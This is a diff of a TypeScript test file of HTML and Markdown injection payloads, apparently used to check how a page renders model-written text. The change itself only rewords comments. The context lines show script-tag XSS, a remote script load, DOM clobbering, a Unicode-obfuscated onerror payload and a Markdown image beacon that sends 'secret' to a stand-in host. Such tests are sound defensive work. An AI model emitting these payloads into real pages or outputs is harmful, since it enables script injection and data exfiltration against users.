@@ -1,7 +1,7 @@
 const script = 'alert(document.domain)';
 const foreign = 'https://canary.example';
 
-/** What runs where HTML is taken for HTML. */
+/** Texts that run a script when they are parsed as HTML. */
 const html = [
   `<script>${script}</script>`,
   `<script src="${foreign}/a.js"></script>`,
@@ -42,7 +42,7 @@ const html = [
   `<img name="getElementById"><img id="documentElement"><a id="vitrine" href="${foreign}">a</a>`,
 ];
 
-/** What runs or leads away where Markdown is taken for Markdown. */
+/** Texts that run a script or navigate when they are parsed as Markdown. */
 const markdown = [
   `![beacon](${foreign}/?q=secret)`,
   `![beacon][b]\n\n[b]: ${foreign}/b.png`,
@@ -84,7 +84,7 @@ const markdown = [
   `\u202e<script>${script}</script>\u202c \u200b<img src=x onerror=${script}>`,
 ];
 
-/** What a model may write to have the page run a script, load something, or take an element for one of its own. */
+/** Texts of a model that try to run a script, load a resource, or imitate an element of the page. */
 export const payloads: readonly string[] = [
   ...html,
   ...markdown,
